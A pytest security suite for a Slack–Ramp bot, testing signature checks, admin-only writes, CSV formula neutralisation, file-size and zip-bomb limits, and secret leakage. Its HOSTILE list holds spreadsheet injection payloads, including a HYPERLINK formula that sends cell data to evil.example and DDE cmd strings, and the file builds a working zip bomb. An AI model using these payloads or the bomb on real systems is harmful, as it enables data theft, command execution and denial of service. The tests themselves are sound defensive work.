"""Attacks: requests that are not Slack's, writes by people who may not write, spreadsheet formulas in
exports, files that point the bot elsewhere or are too big to open, and secrets that must stay secret.

Everything goes through the front door: signed (or badly signed) HTTP requests to the bot, the Slack
stand-in and the Ramp sandbox on loopback, and tiny HTTP servers on loopback standing in for hosts
that are not Slack's.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import re
import struct
import time
import zlib
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import httpx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.exports import safe_cell, to_csv
from bot.importers import ImportFileError, read_rows
from handlers.commands import COMMANDS
from sandbox.ramp import RampSandbox
from sandbox.slack import SlackStandIn
from sandbox.slack.payloads import sign
from tests.bot_process import CLIENT_SECRET
from tests.conftest import RunningBot, bot_settings, start_http_bot
from tests.driver import (
    ADMIN,
    BOT_TOKEN,
    CAFE,
    CHANNEL,
    FIXTURE,
    RAMEN,
    SIGNING_SECRET,
    USER,
    Recorder,
    books,
    connect,
    database_bytes,
    everything_slack_received,
    first_reply,
    issued_tokens,
    listing_message,
    load_mix,
    message_with,
    preview_of,
    ramp_state,
    results_csv,
    secrets_found,
    share,
    sized,
    synced_ids,
    text_of,
    texts,
    wait_for_text,
    write_requests,
)

pytestmark = [pytest.mark.reliability, pytest.mark.http]  # signed and forged HTTP requests

FORMULA_STARTS = ("=", "+", "-", "@")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
STRICT_NUMBER = r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?"


# -- forged, replayed and unsigned requests ------------------------------------------------------------


def _command_body(n: int, hook: str) -> bytes:
    return urlencode(
        {
            "command": "/ramp",
            "text": f"connect {'NetSuite' if n == 1 else 'Xero'}",
            "user_id": ADMIN,
            "channel_id": CHANNEL,
            "team_id": "T0LOCAL",
            "response_url": hook,
            "trigger_id": f"t.{n}",
        }
    ).encode()


def _action_body(n: int, hook: str) -> bytes:
    payload = {
        "type": "block_actions",
        "user": {"id": ADMIN},
        "team": {"id": "T0LOCAL"},
        "channel": {"id": CHANNEL},
        "container": {"type": "message", "message_ts": f"1.00000{n}", "channel_id": CHANNEL},
        "response_url": hook,
        "trigger_id": f"t.{n}",
        "actions": [{"action_id": "connection_disconnect", "type": "button", "value": "x", "block_id": "b"}],
    }
    return urlencode({"payload": json.dumps(payload)}).encode()


def _event_body(n: int, hook: str) -> bytes:  # an event has no response_url
    return json.dumps(
        {
            "type": "event_callback",
            "team_id": "T0LOCAL",
            "event_id": f"Ev0FORGED{n}",
            "event_time": int(time.time()),
            "event": {
                "type": "message",
                "subtype": "file_share",
                "channel": CHANNEL,
                "user": ADMIN,
                "ts": f"2.00000{n}",
                "files": [{"id": f"F0NOPE{n}"}],
            },
        }
    ).encode()


def _connections_and_audit(bot: RunningBot, slack: SlackStandIn, ramp: RampSandbox) -> Any:
    names = [c["remote_provider_name"] for c in ramp_state(ramp)["connections"]]
    return names, [(e.command, e.outcome) for e in bot.services.audit.recent(5)]


def _messages_updated(bot: RunningBot, slack: SlackStandIn, ramp: RampSandbox) -> Any:
    return [c.args.get("ts") for c in slack.calls("chat.update")]


def _files_looked_up(bot: RunningBot, slack: SlackStandIn, ramp: RampSandbox) -> Any:
    return [c.args.get("file") for c in slack.calls("files.info")]


Effect = Callable[[RunningBot, SlackStandIn, RampSandbox], Any]
# kind -> (the body of request number n naming a response_url, its content type, what such requests
# did, what request 2 does)
BODIES: dict[str, tuple[Callable[[int, str], bytes], str, Effect, Any]] = {
    "slash command": (
        _command_body,
        "application/x-www-form-urlencoded",
        _connections_and_audit,
        (["Xero"], [("connect", "ok")]),
    ),
    "button click": (  # nothing is connected: the bot says so in the message the button was on
        _action_body,
        "application/x-www-form-urlencoded",
        _messages_updated,
        ["1.000002"],
    ),
    "event": (_event_body, "application/json", _files_looked_up, ["F0NOPE2"]),
}


def _headers(how: str, body: bytes) -> dict[str, str]:
    now = int(time.time())
    if how == "unsigned":
        return {}
    if how == "forged signature":
        return {"X-Slack-Request-Timestamp": str(now), "X-Slack-Signature": "v0=" + "0" * 64}
    if how == "signed with another secret":
        return sign("not-the-signing-secret", body, now)
    if how == "replayed after 5 minutes":
        return sign(SIGNING_SECRET, body, now - 330)
    if how == "dated 5 minutes ahead":
        return sign(SIGNING_SECRET, body, now + 330)  # clear of the second boundary
    if how == "body changed after signing":
        headers = sign(SIGNING_SECRET, body, now)
        return {**headers, "X-Tampered": "1"}
    raise AssertionError(how)


@pytest.mark.parametrize("kind", list(BODIES))
@pytest.mark.parametrize(
    "how",
    [
        "unsigned",
        "forged signature",
        "signed with another secret",
        "replayed after 5 minutes",
        "dated 5 minutes ahead",
        "body changed after signing",
    ],
)
@pytest.mark.http
def test_a_request_not_signed_by_slack_just_now_gets_401_and_does_nothing(
    bot: RunningBot, slack: SlackStandIn, ramp: RampSandbox, recorder: Recorder, kind: str, how: str
):
    # The bot's first request pays for things later ones do not (Bolt's auth.test): pay it first.
    assert slack.slash_command("/ramp", "help", user=USER, channel=CHANNEL).status == 200
    make, content_type, effect, of_request_2 = BODIES[kind]
    body = make(1, recorder.url)  # the attacker's server: it must hear nothing
    headers = {"Content-Type": content_type, **_headers(how, body)}
    if how == "body changed after signing":
        body = body.replace(b"NetSuite", b"EvilERP1").replace(b"F0NOPE", b"F0EVIL")
        body = body.replace(b"1.000001", b"1.000009")  # the button's message
    response = httpx.post(f"{bot.url}/slack/events", content=body, headers=headers)
    assert response.status_code == 401

    # Then request 2 of the same kind, signed by Slack just now, through the same door. Once its
    # effect shows, request 1's would have too (its work, had any started, started first): so what
    # shows then must be request 2's alone.
    # Its reply goes to a closed port, so the bot falls back to the Web API, which the stand-in sees.
    legit = make(2, "http://127.0.0.1:1/response/2")
    signed = {"Content-Type": content_type, **sign(SIGNING_SECRET, legit, int(time.time()))}
    assert httpx.post(f"{bot.url}/slack/events", content=legit, headers=signed).status_code == 200
    slack.wait_for(lambda: effect(bot, slack, ramp) == of_request_2, timeout=15)
    slack.wait_quiet(idle=0.3)
    assert effect(bot, slack, ramp) == of_request_2
    assert write_requests(ramp) == (1 if kind == "slash command" else 0)  # request 2's connect, if any
    assert recorder.received == []


# -- a non-admin at every write ------------------------------------------------------------------------


GL_FILE = b"id,name,code,classification\n6000,Travel,6000,EXPENSE\n"
OPTIONS_FILE = b"field,option_id,option_value\nDepartment,D-1,Engineering\n"
RESULTS_FILE = results_csv(f"{RAMEN},success,JE-1,")


def _command(text: str) -> Callable[[SlackStandIn, RampSandbox], Callable[[], Any]]:
    def setup(slack: SlackStandIn, ramp: RampSandbox) -> Callable[[], Any]:
        return lambda: slack.slash_command("/ramp", text, user=USER, channel=CHANNEL)

    return setup


def _click_on(
    prepare: Callable[[SlackStandIn, RampSandbox], Any], action_id: str, **click: Any
) -> Callable[[SlackStandIn, RampSandbox], Callable[[], Any]]:
    def setup(slack: SlackStandIn, ramp: RampSandbox) -> Callable[[], Any]:
        prepare(slack, ramp)
        message = message_with(slack, action_id)
        return lambda: slack.click(action_id, message=message, user=USER, **click)

    return setup


def _submit_modal(
    open_it: Callable[[SlackStandIn, RampSandbox], Any], values: dict[str, Any]
) -> Callable[[SlackStandIn, RampSandbox], Callable[[], Any]]:
    def setup(slack: SlackStandIn, ramp: RampSandbox) -> Callable[[], Any]:
        open_it(slack, ramp)
        view_id = slack.wait_for(lambda: next(iter(slack.views), None))
        return lambda: slack.submit_view(view_id, values, user=USER)

    return setup


def _conflict(slack: SlackStandIn, ramp: RampSandbox) -> None:
    connect(slack, "NetSuite")
    slack.slash_command("/ramp", "connect Xero", user=ADMIN, channel=CHANNEL)


def _disconnect_confirm(slack: SlackStandIn, ramp: RampSandbox) -> None:
    connect(slack, "NetSuite")
    slack.slash_command("/ramp", "disconnect", user=ADMIN, channel=CHANNEL)


def _gl_preview(slack: SlackStandIn, ramp: RampSandbox) -> None:
    connect(slack, "NetSuite")
    preview_of(slack, GL_FILE, "accounts.csv")


def _options_preview(slack: SlackStandIn, ramp: RampSandbox) -> None:
    connect(slack, "NetSuite")
    preview_of(slack, OPTIONS_FILE, "options.csv")


def _field_modal(slack: SlackStandIn, ramp: RampSandbox) -> None:
    _options_preview(slack, ramp)
    slack.click("upload_fields", message=message_with(slack, "upload_fields"), user=ADMIN)


def _results_preview(slack: SlackStandIn, ramp: RampSandbox) -> None:
    load_mix(ramp)
    preview_of(slack, RESULTS_FILE, "results.csv")


def _listing(slack: SlackStandIn, ramp: RampSandbox) -> None:
    load_mix(ramp)
    slack.slash_command("/ramp", "transactions", user=ADMIN, channel=CHANNEL)
    listing_message(slack)


def _row_modal(kind: str) -> Callable[[SlackStandIn, RampSandbox], None]:
    def open_it(slack: SlackStandIn, ramp: RampSandbox) -> None:
        _listing(slack, ramp)
        slack.click(
            "transaction_row",
            message=listing_message(slack),
            user=ADMIN,
            block_id=f"tx|{RAMEN}",
            value=f"{kind}|{RAMEN}",
        )

    return open_it


# (what the refusal is audited as) -> how to set the scene, returning the non-admin's attempt
WRITES: dict[str, Callable[[SlackStandIn, RampSandbox], Callable[[], Any]]] = {
    "connect": _command("connect NetSuite"),
    "disconnect": _command("disconnect"),
    "audit": _command("audit 5"),
    "field": _command("field Department required bills"),
    "connection_migrate": _click_on(_conflict, "connection_migrate"),
    "summary on": _command("summary on 08:30 Europe/London"),
    "summary off": _command("summary off"),
    "connection_replace": _click_on(_conflict, "connection_replace"),
    "connection_disconnect": _click_on(_disconnect_confirm, "connection_disconnect"),
    "upload_start": _click_on(_gl_preview, "upload_start"),
    "upload_fields": _click_on(_options_preview, "upload_fields"),
    "upload_field_modal": _submit_modal(_field_modal, {}),
    "sync_results_post": _click_on(_results_preview, "sync_results_post"),
    "transaction_row": _click_on(
        _listing, "transaction_row", block_id=f"tx|{RAMEN}", value=f"synced|{RAMEN}"
    ),
    "transaction_mark_synced": _submit_modal(_row_modal("synced"), {"reference": {"value": "JE-1"}}),
    "transaction_report_failure": _submit_modal(_row_modal("failed"), {"reason": {"value": "closed"}}),
}


def test_every_write_command_of_the_registry_is_attacked_here():
    assert {spec.name for spec in COMMANDS if spec.admin} <= set(WRITES)


@pytest.mark.parametrize("write", list(WRITES))
def test_a_non_admin_at_a_write_is_refused_audited_and_changes_nothing(
    bot: RunningBot, slack: SlackStandIn, ramp: RampSandbox, write: str
):
    attempt = WRITES[write](slack, ramp)
    slack.wait_quiet(idle=0.2)
    before = (write_requests(ramp), ramp_state(ramp)["connections"], books(ramp), synced_ids(ramp))
    schedules_before = bot.services.summaries.schedules.listed()

    response = attempt()

    # Whatever comes first: the refusal in the audit log, or a write reaching Ramp.
    slack.wait_for(
        lambda: (
            any(e.user_id == USER for e in bot.services.audit.recent(20)) or write_requests(ramp) != before[0]
        ),
        timeout=15,
    )
    slack.wait_quiet(idle=0.2, timeout=15)
    entries = [(e.command, e.outcome) for e in bot.services.audit.recent(20) if e.user_id == USER]
    assert entries == [(write, "refused")]
    assert "Only admins" in response.body + texts(slack)
    after = (write_requests(ramp), ramp_state(ramp)["connections"], books(ramp), synced_ids(ramp))
    assert after == before
    assert bot.services.summaries.schedules.listed() == schedules_before


# -- formulas in exported CSV ---------------------------------------------------------------------------


def _cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def _neutral(cell: str) -> bool:
    return not cell.startswith((*FORMULA_STARTS, "\t", "\r")) or re.fullmatch(STRICT_NUMBER, cell) is not None


@settings(max_examples=sized(300, 3000), deadline=None)
@given(st.lists(st.text(max_size=12) | st.sampled_from(HOSTILE), min_size=1, max_size=6))
def test_no_exported_cell_starts_a_formula(values: list[str]):
    content = to_csv(["a"] * len(values), [values])
    assert all(_neutral(cell) for cell in _cells(content)[len(values) :])


def test_number_lookalikes_are_neutralised_too():
    assert [safe_cell(v) for v in ("-inf", "+nan", "-1_000")] == ["'-inf", "'+nan", "'-1_000"]


def test_amounts_stay_numbers():
    assert [safe_cell(v) for v in ("-12.50", "+3", "1e3", "-0.5")] == ["-12.50", "+3", "1e3", "-0.5"]


def test_category_and_transaction_exports_neutralise_formulas_end_to_end(
    bot: RunningBot, slack: SlackStandIn, ramp: RampSandbox
):
    connect(slack, "NetSuite")
    bot.ramp.create_vendors([{"id": f"V{i}", "name": name} for i, name in enumerate(HOSTILE)])
    raw = json.loads(FIXTURE.read_text("utf-8"))
    for transaction, name in zip(raw, HOSTILE, strict=False):
        transaction["merchant_name"] = name
        transaction["memo"] = name
    httpx.post(f"{ramp.url}/_sandbox/transactions", json=raw).raise_for_status()

    slack.slash_command("/ramp", "categories vendors", user=USER, channel=CHANNEL)
    vendors = slack.wait_for(lambda: next((m for m in slack.messages(CHANNEL) if m.files), None))
    slack.slash_command("/ramp", "transactions", user=USER, channel=CHANNEL)
    slack.click("transactions_export", message=listing_message(slack), user=USER)
    exported = slack.wait_for(
        lambda: next((m for m in slack.messages(CHANNEL) if m.thread_ts and m.files), None)
    )

    for message in (vendors, exported):
        cells = _cells(slack.file_content(message.files[0].id))
        assert all(_neutral(cell) for cell in cells), [c for c in cells if not _neutral(c)]
        assert sum(cell.startswith("'") for cell in cells) >= 4  # the hostile values are there, quoted


# -- files that point elsewhere, or are too big ---------------------------------------------------------


@pytest.fixture
def small_bot(tmp_path: Path, ramp: RampSandbox, slack: SlackStandIn) -> Iterator[RunningBot]:
    yield from start_http_bot(bot_settings(tmp_path, ramp, slack, max_file_bytes=50_000), slack)


def test_a_file_over_the_size_cap_is_refused_with_a_message_before_downloading(
    small_bot: RunningBot, slack: SlackStandIn, ramp: RampSandbox
):
    connect(slack, "NetSuite")
    big = GL_FILE + b"".join(b"%d,Account %d,%d,EXPENSE\n" % (n, n, n) for n in range(10_000, 15_000))
    assert len(big) > 50_000
    reply = preview_of(slack, big, "accounts.csv")
    assert "larger than" in text_of(reply)
    assert books(ramp)["gl_accounts"] == []


def test_a_file_whose_size_lies_is_cut_off_at_the_cap_with_a_message(
    small_bot: RunningBot, slack: SlackStandIn, ramp: RampSandbox
):
    connect(slack, "NetSuite")
    big = GL_FILE + b"".join(b"%d,Account %d,%d,EXPENSE\n" % (n, n, n) for n in range(10_000, 15_000))
    reply = first_reply(slack, share(slack, big, "accounts.csv", stated_size=1_000))
    assert "larger than" in reply.text  # the size message, though files.info said 1,000 bytes
    assert books(ramp)["gl_accounts"] == [] and write_requests(ramp) == 1  # the connection only


def _zip_member(name: str, raw: bytes, crc: int, size: int, offset: int) -> tuple[bytes, bytes]:
    encoded = name.encode()
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(raw), size, len(encoded), 0)
    central = struct.pack(
        "<IHHHHHHIIIHHHHHII",
        0x02014B50,
        20,
        20,
        0,
        8,
        0,
        0,
        crc,
        len(raw),
        size,
        len(encoded),
        0,
        0,
        0,
        0,
        0,
        offset,
    )
    return local + encoded + raw, central + encoded


@cache
def zip_bomb(unpacked_mb: int, declared: int | None = None) -> bytes:
    """An 'XLSX' whose sheet inflates to `unpacked_mb` MB of zeros from a few hundred KB; `declared`
    makes its headers lie about that size. Built from one deflate block repeated."""
    chunk = b"0" * (1 << 20)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    bomb = block * unpacked_mb + zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    crc = 0
    for _ in range(unpacked_mb):
        crc = zlib.crc32(chunk, crc)
    members = [("[Content_Types].xml", b"<Types/>"), ("xl/workbook.xml", b"<workbook/>")]
    out, directory = b"", b""
    for name, data in members:
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        raw = compressor.compress(data) + compressor.flush()
        local, central = _zip_member(name, raw, zlib.crc32(data), len(data), len(out))
        out, directory = out + local, directory + central
    local, central = _zip_member(
        "xl/worksheets/sheet1.xml",
        bomb,
        crc,
        declared if declared is not None else unpacked_mb << 20,
        len(out),
    )
    out, directory = out + local, directory + central
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 3, 3, len(directory), len(out), 0)
    return out + directory + end


@pytest.mark.parametrize("declared", ["honestly", "lying"])
def test_a_zip_bomb_is_refused_by_the_reader(declared: str):
    bomb = zip_bomb(40, None if declared == "honestly" else 1_000)
    assert len(bomb) < 100_000
    with pytest.raises(ImportFileError) as refused:
        read_rows(bomb, "accounts.xlsx", max_bytes=32 << 20)
    assert "Excel" in str(refused.value) or "CSV" in str(refused.value)


def test_a_zip_bomb_shared_in_slack_gets_a_message_and_writes_nothing(
    bot: RunningBot, slack: SlackStandIn, ramp: RampSandbox
):
    connect(slack, "NetSuite")
    bomb = zip_bomb(300)  # 300 MB unpacked, over the 256 MB the readers accept, in ~0.3 MB
    reply = preview_of(slack, bomb, "accounts.xlsx")
    assert "unpacks to more than" in text_of(reply)
    assert books(ramp)["gl_accounts"] == [] and write_requests(ramp) == 1


# -- secrets: never in logs, messages or the database ----------------------------------------------


def test_no_secret_reaches_the_logs_slack_or_the_database(
    bot: RunningBot, slack: SlackStandIn, ramp: RampSandbox, caplog: pytest.LogCaptureFixture
):
    caplog.set_level(logging.DEBUG)
    # Every kind of work the bot does: connect, upload, list, export, mark, post, refuse, fail,
    # summarise, audit, disconnect (which backs categories up to files).
    connect(slack, "NetSuite")
    preview = preview_of(slack, GL_FILE, "accounts.csv")
    slack.click("upload_start", message=preview, user=ADMIN)
    wait_for_text(slack, "1 created")
    load_mix(ramp)
    slack.slash_command("/ramp", "transactions", user=ADMIN, channel=CHANNEL)
    listing = listing_message(slack)
    slack.click("transactions_export", message=listing, user=ADMIN)
    slack.click("transaction_row", message=listing, user=ADMIN, block_id=f"tx|{CAFE}", value=f"failed|{CAFE}")
    slack.wait_for(lambda: slack.views)
    slack.submit_view(values={"reason": {"value": "Period closed"}}, user=ADMIN)
    wait_for_text(slack, "Reported a failed sync")
    post = preview_of(slack, RESULTS_FILE, "results.csv")
    # Someone syncs it elsewhere first: Ramp refuses the chunk, and the bot logs and shows why.
    bot.ramp.post_syncs("elsewhere", successful=[{"id": RAMEN, "reference_id": "X"}])
    slack.click("sync_results_post", message=post, user=ADMIN)
    wait_for_text(slack, "Ramp's complaints, by row")
    slack.slash_command("/ramp", "connect Xero", user=USER, channel=CHANNEL)
    slack.slash_command("/ramp", "status", user=USER, channel=CHANNEL)
    wait_for_text(slack, "Connected to *NetSuite*")
    slack.slash_command("/ramp", "summary now", user=USER, channel=CHANNEL)
    slack.wait_for(lambda: any(m.text.startswith("Ramp daily summary") for m in slack.messages(CHANNEL)))
    slack.slash_command("/ramp", "audit 20", user=ADMIN, channel=CHANNEL)
    wait_for_text(slack, "Audit log")
    slack.slash_command("/ramp", "disconnect", user=ADMIN, channel=CHANNEL)
    slack.click("connection_disconnect", message=message_with(slack, "connection_disconnect"), user=ADMIN)
    wait_for_text(slack, "disconnected Ramp from *NetSuite*")
    slack.wait_quiet()

    tokens = issued_tokens(ramp)
    assert tokens  # the bot did get access tokens, so the scan below looks for real ones
    secrets = [BOT_TOKEN, SIGNING_SECRET, CLIENT_SECRET, *tokens]
    logs = caplog.text + "\n".join(str(r.args) for r in caplog.records)
    assert len(caplog.records) > 50  # DEBUG logging of every library was on
    assert (
        secrets_found(
            secrets,
            logs=logs,
            slack=everything_slack_received(slack),
            database=database_bytes(bot.settings.db_path),
        )
        == []
    )
